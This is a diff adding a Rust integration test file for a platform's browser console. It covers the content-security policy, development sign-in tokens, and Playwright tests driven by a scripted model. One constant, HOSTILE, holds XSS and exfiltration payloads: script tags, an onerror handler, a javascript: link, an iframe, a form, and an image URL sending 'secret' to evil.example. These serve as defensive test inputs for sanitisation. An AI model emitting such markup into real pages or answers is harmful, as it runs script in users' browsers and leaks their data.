@@ -1,0 +1,118 @@
+//! The browser console: what the server sends for it, and the tests in Chromium (`crates/console/web/e2e`), which need
+//! `cargo xtask ui-test`.
+
+use crate::support::app::{TENANT_A, TestApp};
+use crate::support::files;
+use crate::support::model::{ModelServer, Reply};
+use crate::support::provider::{AUDIENCE, OidcProvider};
+use crate::support::python;
+use domain::role::Role;
+use serde_json::Value;
+use std::time::Duration;
+use tokio::process::Command;
+
+/// The tenant whose users the development list shows.
+const DEMO_TENANT: &str = "demo-plant";
+const DOCUMENTS: &[&str] = &["MAN-P101-feedwater-pump-manual.pdf", "LOTO-002-lockout-tagout.docx"];
+/// Words and markup with which a document or a model could attack a page.
+const HOSTILE: &str = "Please look at this [1]. <img src=\"https://evil.example/a.png\" onerror=\"window.pwned=1\"> \
+    ![x](https://evil.example/b.png?d=secret) <script>window.pwned=1</script> [click](javascript:window.pwned=1) \
+    [here](https://evil.example/c) <iframe src=\"https://evil.example/d\"></iframe> https://evil.example/e\n\n\
+    <form action=\"https://evil.example/f\"><button>Send</button></form>";
+
+/// How the scripted model answers the questions of the browser tests.
+fn reply(question: &str) -> Reply {
+    let is_about = |word: &str| question.contains(word);
+    if is_about("SLOWLY") {
+        let pieces = vec!["piece 1 ", "piece 2 ", "piece 3 ", "piece 4 ", "piece 5 ", "piece 6 ", "the end."];
+        Reply::Delayed(Duration::from_millis(700), pieces)
+    } else if is_about("HOSTILE") {
+        Reply::Text(vec![HOSTILE])
+    } else {
+        Reply::Text(vec!["The casing tie bolts ", "are tightened to 480 N·m in four steps [", "1]."])
+    }
+}
+
+/// Creates the users of the demo tenant, and documents to ask about.
+async fn fill_demo_tenant(app: &TestApp) {
+    app.create_tenant(DEMO_TENANT).await;
+    for (name, role) in [("ana", Role::Admin), ("tunde", Role::User), ("kim", Role::Viewer)] {
+        app.caller(DEMO_TENANT, name, role).get("/v1/me").await.expect_json(200);
+    }
+    let ana = app.caller(DEMO_TENANT, "ana", Role::Admin);
+    for name in DOCUMENTS {
+        assert_eq!(ana.ingest(name, &files::demo_document(name), &[]).await["status"], "ready", "{name}");
+    }
+}
+
+#[tokio::test]
+#[ignore = "needs Chromium and the console's npm packages: cargo xtask ui-test"]
+async fn the_browser_tests_pass() {
+    let model = ModelServer::start_choosing(reply).await;
+    let provider = OidcProvider::start().await;
+    let settings = [
+        ("LITELLM_BASE_URL", model.url.as_str()),
+        ("PLATFORM__MODELS__EMBED_SOURCE", "embedded"),
+        ("PLATFORM__RATE_LIMIT__ENABLED", "false"),
+        ("OIDC_ISSUER", &provider.issuer),
+        ("OIDC_AUDIENCE", AUDIENCE),
+        ("OIDC_CLIENT_ID", "plant-console"),
+        ("PLATFORM__AUTH__OIDC_SCOPE", "openid platform.ask"),
+    ];
+    let app = TestApp::start(&settings).await;
+    fill_demo_tenant(&app).await;
+    let project = files::repository_root().join("crates/console/web");
+    let mut command = Command::new(python::setting("PLATFORM_TEST_CONSOLE_NODE", "cargo xtask ui-test"));
+    command.args(["node_modules/@playwright/test/cli.js", "test"]).current_dir(project).kill_on_drop(true);
+    command.env("PLATFORM_URL", &app.base_url).env("OIDC_ISSUER", &provider.issuer);
+    let status = command.status().await.expect("node starts");
+    assert!(status.success(), "Playwright: {status}");
+}
+
+#[tokio::test]
+async fn the_page_names_its_policy_and_the_settings_of_the_sign_in() {
+    let settings = [
+        ("OIDC_ISSUER", "http://127.0.0.1:9/realms/plant"),
+        ("OIDC_AUDIENCE", "api"),
+        ("OIDC_CLIENT_ID", "plant-console"),
+    ];
+    let app = TestApp::start(&settings).await;
+    let root = app.http.get(format!("{}/", app.base_url)).send().await.expect("an answer");
+    assert_eq!(root.url().path(), "/ui/", "GET / leads to the console");
+    let policy = root.headers()["content-security-policy"].to_str().expect("ASCII").to_owned();
+    assert!(policy.contains("connect-src 'self' http://127.0.0.1:9;") && !policy.contains("unsafe"), "{policy}");
+    let deep_link = app.without_token().get("/ui/documents/any?page=3").await;
+    assert_eq!((deep_link.status, deep_link.header("cache-control")), (200, Some("no-store")));
+    assert_eq!(app.without_token().get("/ui/assets/none.js").await.status, 404);
+}
+
+#[tokio::test]
+async fn the_development_list_has_the_active_users_of_the_demo_tenant_and_signs_in_as_them() {
+    let app = TestApp::start(&[]).await;
+    let listed = app.without_token().get("/v1/development/users").await.expect_json(200);
+    assert_eq!(listed["data"], Value::Array(Vec::new()), "there is no demo tenant yet");
+    app.create_tenant(DEMO_TENANT).await;
+    let kim = app.caller(DEMO_TENANT, "kim", Role::Viewer).get("/v1/me").await.expect_json(200);
+    let other = app.caller(TENANT_A, "uma", Role::User).get("/v1/me").await.expect_json(200);
+    let names = |listed: &Value| {
+        let users = listed["data"].as_array().expect("users");
+        users.iter().map(|user| user["name"].as_str().expect("a name").to_owned()).collect::<Vec<_>>()
+    };
+    let listed = app.without_token().get("/v1/development/users").await.expect_json(200);
+    assert_eq!(names(&listed), ["ana", "founder", "kim"]);
+
+    let id = |user: &Value| user["id"].as_str().expect("an id").to_owned();
+    let path = |user: &Value| format!("/v1/development/users/{}/token", id(user));
+    let issued = app.without_token().post(&path(&kim), &Value::Null).await.expect_json(200);
+    let token = issued["access_token"].as_str().expect("a token");
+    let me = app.with_token(token).get("/v1/me").await.expect_json(200);
+    assert_eq!((id(&me), me["role"].as_str()), (id(&kim), Some("viewer")));
+    app.without_token().post(&path(&other), &Value::Null).await.expect_problem(404, "not_found");
+
+    let ana = app.caller(DEMO_TENANT, "ana", Role::Admin);
+    let switched_off = serde_json::json!({ "is_active": false });
+    ana.patch(&format!("/v1/admin/users/{}", id(&kim)), &switched_off).await.expect_json(200);
+    app.without_token().post(&path(&kim), &Value::Null).await.expect_problem(404, "not_found");
+    let listed = app.without_token().get("/v1/development/users").await.expect_json(200);
+    assert_eq!(names(&listed), ["ana", "founder"]);
+}
